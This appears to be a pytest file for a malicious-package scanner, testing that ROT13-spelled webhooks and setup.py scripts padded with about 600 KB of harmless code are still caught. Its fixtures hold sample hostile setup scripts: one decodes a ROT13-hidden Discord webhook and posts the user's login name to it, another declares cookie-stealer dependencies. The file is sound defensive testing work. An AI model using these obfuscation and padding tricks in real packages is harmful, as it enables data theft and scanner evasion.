"""Rules 37: text spelled in ROT13 is read as what it spells; install- and import-time files
are parsed whole up to the scan's reading cap.

From ``benchmarks/scan_mutations.py`` (``rot13``, ``pad``): strings spelled in ROT13 hid a
webhook or a credential store's path from every rule; and harmless code put before a
``setup.py`` (a few hundred kilobytes of it) left the file to triage alone, which asks for
what rules find in small files without being told (the requirements it declares).
A file past the cap is refused, as before (``test_scan_archive_caps``).

The sources below are inert text handed to the scanner; nothing runs them.
"""

from __future__ import annotations

import codecs

import pytest

from tests.support.scan import SETUP_CALL, judge_setup_script

WEBHOOK = "https://discord.com/api/webhooks/1234567890/abcdefghijklmnop"


@pytest.mark.parametrize(
    "spelled",
    [
        f"codecs.decode({codecs.encode(WEBHOOK, 'rot13')!r}, 'rot13')",
        f"codecs.encode({codecs.encode(WEBHOOK, 'rot13')!r}, 'rot_13')",
    ],
)
def test_a_webhook_spelled_in_rot13_is_read_as_the_webhook(spelled: str) -> None:
    setup = (
        "import codecs, os, requests\n"
        f"HOOKS = [{spelled}]\n"
        "requests.post(HOOKS[0], json={'u': os.getlogin()})\n"
    ) + SETUP_CALL
    rules, held = judge_setup_script(setup)
    assert rules.get("exfil-sink", 0) >= 6
    assert held


#: Harmless functions, about 600 KB of them.
PADDING = "".join(f"def pad_{i}(value):\n    return value * {i}\n\n" for i in range(16000))
#: What only a parse of the whole file finds: the requirements a setup script declares.
SETUP = (
    "from setuptools import setup\n"
    "setup(name='demo', version='1.0', install_requires=['browser-cookie3', 'discordwebhook'])\n"
)


def test_a_padded_setup_script_is_read_whole() -> None:
    setup = PADDING + SETUP
    assert 256 * 1024 < len(setup) < 2 * 1024 * 1024
    rules, _held = judge_setup_script(setup)
    assert "stealer-dependency" in rules
